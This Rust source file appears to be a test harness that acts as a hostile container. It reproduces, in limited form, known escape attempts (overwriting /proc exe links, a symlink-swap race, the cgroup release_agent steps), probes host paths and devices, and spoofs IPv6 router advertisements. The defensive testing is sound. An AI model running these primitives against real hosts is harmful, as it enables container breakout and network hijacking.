//! What a hostile container tries, bounded. Each command says what it got.

use std::fs::{self, OpenOptions};
use std::net::{Ipv6Addr, SocketAddrV6, UdpSocket};
use std::os::fd::{FromRawFd, OwnedFd};
use std::os::unix::fs::{FileTypeExt, OpenOptionsExt};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::io::number;
use crate::{errno, say};

/// Until when an attack goes on that is given so many milliseconds: until then, or until there is a file `/stop`.
fn is_over(until: std::time::Instant) -> bool {
    std::time::Instant::now() >= until || fs::exists("/stop").unwrap_or(true)
}

/// `open-exes [MILLISECONDS]`: open every `/proc/*/exe` for writing again and again (CVE-2019-5736). Tells which
/// programs that are not this one could be opened.
pub(crate) fn open_exes(arguments: &[String]) -> Result<u8, String> {
    let until = std::time::Instant::now()
        + std::time::Duration::from_millis(number(arguments, 0).unwrap_or(0));
    let own = fs::read_link("/proc/self/exe").map_err(|e| e.to_string())?;
    let mut opened = Vec::new();
    let mut tried = 0u64;
    loop {
        for entry in fs::read_dir("/proc").map_err(|e| e.to_string())?.flatten() {
            let exe = entry.path().join("exe");
            let Ok(target) = fs::read_link(&exe) else { continue };
            tried += 1;
            // Read first and then through the descriptor's own name: ETXTBSY only protects while a process runs it.
            let by_descriptor = OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(&exe)
                .ok()
                .map(|file| {
                    use std::os::fd::AsRawFd;
                    let name = format!("/proc/self/fd/{}", file.as_raw_fd());
                    OpenOptions::new().write(true).open(name).is_ok()
                })
                .unwrap_or(false);
            let direct = OpenOptions::new().write(true).open(&exe).is_ok();
            if (direct || by_descriptor) && target != own {
                opened.push(target.display().to_string());
            }
        }
        if is_over(until) {
            break;
        }
    }
    say(&json!({"tried": tried, "opened": opened}).to_string())?;
    Ok(0)
}

/// `watch-processes [MILLISECONDS]`: look into every other process again and again (CVE-2016-9962). Tells which roots, working
/// directories and open files were not of this container's filesystems.
pub(crate) fn watch_processes(arguments: &[String]) -> Result<u8, String> {
    use std::os::unix::fs::MetadataExt;
    let until = std::time::Instant::now()
        + std::time::Duration::from_millis(number(arguments, 0).unwrap_or(0));
    let device =
        |path: &str| fs::metadata(path).map(|found| found.dev()).map_err(|e| e.to_string());
    let root = fs::metadata("/").map_err(|e| e.to_string())?;
    let own = [device("/")?, device("/proc")?, device("/dev")?, device("/dev/pts")?];
    let (mut foreign, mut looked) = (std::collections::BTreeSet::new(), 0u64);
    while !is_over(until) {
        for entry in fs::read_dir("/proc").map_err(|e| e.to_string())?.flatten() {
            let pid = entry.file_name().to_string_lossy().parse::<u32>();
            if !pid.is_ok_and(|pid| pid != std::process::id()) {
                continue;
            }
            looked += 1;
            let mut tell = |what: &str, link: &std::path::Path| {
                let target = fs::read_link(link).unwrap_or_default();
                foreign.insert(format!("{what} {}", target.display()));
            };
            let link = entry.path().join("root");
            if fs::metadata(&link).is_ok_and(|r| (r.dev(), r.ino()) != (root.dev(), root.ino())) {
                tell("root", &link);
            }
            let link = entry.path().join("cwd");
            if fs::metadata(&link).is_ok_and(|found| !own.contains(&found.dev())) {
                tell("cwd", &link);
            }
            for file in fs::read_dir(entry.path().join("fd")).into_iter().flatten().flatten() {
                let link = file.path();
                let Ok(found) = fs::metadata(&link) else { continue };
                let kind = found.file_type();
                // One that was closed meanwhile can no longer be told.
                let Ok(target) = fs::read_link(&link) else { continue };
                let anonymous = target.to_string_lossy().starts_with("anon_inode:");
                if !kind.is_fifo() && !kind.is_socket() && !anonymous && !own.contains(&found.dev())
                {
                    tell("file", &link);
                }
            }
        }
    }
    say(&json!({"looked": looked, "foreign": foreign}).to_string())?;
    Ok(0)
}

/// `self-exe`: what `/proc/self/exe` is when the image's entry point is `/proc/self/exe` itself.
pub(crate) fn self_exe(_arguments: &[String]) -> Result<u8, String> {
    let target = fs::read_link("/proc/self/exe").map_err(|e| e.to_string())?;
    say(&target.display().to_string())?;
    Ok(0)
}

/// `swap PATH TARGET`: a directory with a file `secret` at PATH, exchanged with a symbolic link to TARGET again and again, without
/// a moment at which there is neither (CVE-2018-15664).
pub(crate) fn swap(arguments: &[String]) -> Result<u8, String> {
    let [path, target] = arguments else { return Err("swap PATH TARGET".to_owned()) };
    let aside = format!("{path}.aside");
    fs::create_dir_all(path).map_err(|e| e.to_string())?;
    fs::write(format!("{path}/secret"), "inside").map_err(|e| e.to_string())?;
    std::os::unix::fs::symlink(target, &aside).map_err(|e| e.to_string())?;
    let name = |text: &str| std::ffi::CString::new(text).map_err(|e| e.to_string());
    let (path, aside) = (name(path)?, name(&aside)?);
    say("swapping")?;
    loop {
        // SAFETY: both are strings that end with a NUL and outlive the call.
        let done = unsafe {
            libc::renameat2(
                libc::AT_FDCWD,
                path.as_ptr(),
                libc::AT_FDCWD,
                aside.as_ptr(),
                libc::RENAME_EXCHANGE,
            )
        };
        if done != 0 {
            return Err(format!("exchange: errno {}", errno()));
        }
    }
}

/// `probe PATH…`: what can be done with each path: type, whether it can be read (and the first bytes), written, listed.
pub(crate) fn probe(arguments: &[String]) -> Result<u8, String> {
    let mut answer = serde_json::Map::new();
    for path in arguments {
        answer.insert(path.clone(), probe_path(path));
    }
    say(&Value::from(answer).to_string())?;
    Ok(0)
}

/// See [`probe`].
pub(crate) fn probe_path(path: &str) -> Value {
    let found = match fs::metadata(path) {
        Ok(found) => found,
        Err(error) => return json!({"errno": error.raw_os_error()}),
    };
    if found.is_dir() {
        let names = fs::read_dir(path).map(Iterator::count);
        let file = format!("{path}/.testbox");
        let made = OpenOptions::new().write(true).create_new(true).open(&file);
        let write_errno = made.as_ref().err().and_then(std::io::Error::raw_os_error);
        if made.is_ok() {
            let _ = fs::remove_file(&file);
        }
        return json!({
            "type": "directory",
            "entries": names.as_ref().ok(),
            "read_errno": names.err().and_then(|e| e.raw_os_error()),
            "write_errno": write_errno,
        });
    }
    let null = found.file_type().is_char_device() && {
        use std::os::unix::fs::MetadataExt;
        (libc::major(found.rdev()), libc::minor(found.rdev())) == (1, 3)
    };
    let mut buffer = [0u8; 64];
    let read = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(path)
        .and_then(|mut file| std::io::Read::read(&mut file, &mut buffer));
    // Opened for writing and closed again: nothing is written, since some of these would change the host.
    let write = OpenOptions::new().write(true).custom_flags(libc::O_NONBLOCK).open(path);
    json!({
        "type": if null { "null" } else { "file" },
        "read": read.as_ref().ok(),
        "read_errno": read.err().and_then(|e| e.raw_os_error()),
        "write_errno": write.err().and_then(|e| e.raw_os_error()),
    })
}

/// `device c|b MAJOR MINOR`: make the device node and open it. Says the error number of each step, 0 where it worked.
pub(crate) fn device(arguments: &[String]) -> Result<u8, String> {
    let kind =
        if arguments.first().is_some_and(|k| k == "b") { libc::S_IFBLK } else { libc::S_IFCHR };
    let number = libc::makedev(number(arguments, 1)?, number(arguments, 2)?);
    let path = c"/tmp/device-of-testbox";
    // SAFETY: a static path and numbers.
    let made = unsafe { libc::mknod(path.as_ptr(), kind | 0o600, number) };
    let made = if made == 0 { 0 } else { errno() };
    let place = "/tmp/device-of-testbox";
    let code = |opened: std::io::Result<fs::File>| {
        opened.map_or_else(|error| error.raw_os_error().unwrap_or(-1), |_| 0)
    };
    let nonblocking =
        |options: &mut OpenOptions| options.custom_flags(libc::O_NONBLOCK).open(place);
    let read = code(nonblocking(OpenOptions::new().read(true)));
    let write = code(nonblocking(OpenOptions::new().write(true)));
    let _ = fs::remove_file(place);
    say(&json!({"mknod": made, "read": read, "write": write}).to_string())?;
    Ok(0)
}

/// `abstract-sockets`: the abstract Unix sockets that this network namespace shows, and which could be connected to.
pub(crate) fn abstract_sockets(_arguments: &[String]) -> Result<u8, String> {
    let text = fs::read_to_string("/proc/net/unix").map_err(|e| e.to_string())?;
    let names: Vec<&str> = text
        .lines()
        .skip(1)
        .filter_map(|line| line.split_whitespace().nth(7))
        .filter(|name| name.starts_with('@'))
        .collect();
    say(&json!({"abstract": names}).to_string())?;
    Ok(0)
}

/// `release-agent`: CVE-2022-0492, as far as it gets: new user and cgroup namespaces, mount cgroup v1, write
/// `release_agent`. Says the error number of each step, 0 where it worked.
pub(crate) fn release_agent(_arguments: &[String]) -> Result<u8, String> {
    let mut steps = serde_json::Map::new();
    let mut step = |name: &str, failed: bool| {
        steps.insert(name.to_owned(), json!(if failed { errno() } else { 0 }));
    };
    // SAFETY: this process has one thread, and ends afterwards.
    unsafe {
        step(
            "unshare",
            libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWCGROUP | libc::CLONE_NEWNS) != 0,
        );
        let _ = fs::create_dir("/tmp/cg");
        let mounted = libc::mount(
            c"cgroup".as_ptr(),
            c"/tmp/cg".as_ptr(),
            c"cgroup".as_ptr(),
            0,
            c"memory".as_ptr().cast(),
        );
        step("mount", mounted != 0);
    }
    // The file is opened and not written: it would be the host's.
    let agent = OpenOptions::new().write(true).open("/tmp/cg/release_agent");
    steps.insert(
        "release_agent".into(),
        json!(agent.err().map_or(0, |e| e.raw_os_error().unwrap_or(-1))),
    );
    say(&Value::from(steps).to_string())?;
    Ok(0)
}

/// `advertise PREFIX`: say to all on the link `eth0` that one is a router, and that the prefix is there (RFC 4861, 4.2).
pub(crate) fn advertise(arguments: &[String]) -> Result<u8, String> {
    let prefix: Ipv6Addr =
        arguments.first().and_then(|a| a.parse().ok()).ok_or("advertise PREFIX")?;
    // It must come from the link's own address, which is there when nobody else was found to have it.
    let begin = Instant::now();
    while !has_own_address("eth0") {
        if begin.elapsed() > Duration::from_secs(20) {
            return Err("eth0 has no address of its own".to_owned());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    // Type, code, the kernel's checksum, hops, flags, a lifetime of an hour; reachable and retransmission times.
    let mut message = vec![134, 0, 0, 0, 64, 0, 0x0e, 0x10, 0, 0, 0, 0, 0, 0, 0, 0];
    // Option 3: a prefix of 64 bits that is on the link and that addresses may be made of, for an hour.
    message.extend([3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0]);
    message.extend(prefix.octets());
    // SAFETY: plain system calls; the descriptor is nobody else's, and the option is an int that lives as long as the call.
    let (socket, index) = unsafe {
        let fd = libc::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6);
        if fd < 0 {
            return Err(format!("socket: errno {}", errno()));
        }
        let hops: libc::c_int = 255;
        libc::setsockopt(
            fd,
            libc::IPPROTO_IPV6,
            libc::IPV6_MULTICAST_HOPS,
            std::ptr::from_ref(&hops).cast(),
            size_of::<libc::c_int>() as libc::socklen_t,
        );
        (UdpSocket::from(OwnedFd::from_raw_fd(fd)), libc::if_nametoindex(c"eth0".as_ptr()))
    };
    let everybody = SocketAddrV6::new(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1), 0, 0, index);
    socket.send_to(&message, everybody).map_err(|e| format!("advertise: {e}"))?;
    say("advertised").map(|()| 0)
}

/// Whether a link has its link-local address, and may use it: scope 20, and no flag 40 (linux/if_addr.h, `IFA_F_TENTATIVE`).
fn has_own_address(link: &str) -> bool {
    let addresses = std::fs::read_to_string("/proc/net/if_inet6").unwrap_or_default();
    addresses.lines().any(|line| {
        let words: Vec<&str> = line.split_whitespace().collect();
        let number = |at: usize| words.get(at).and_then(|word| u32::from_str_radix(word, 16).ok());
        words.last() == Some(&link)
            && number(3) == Some(0x20)
            && number(4).is_some_and(|flags| flags & 0x40 == 0)
    })
}
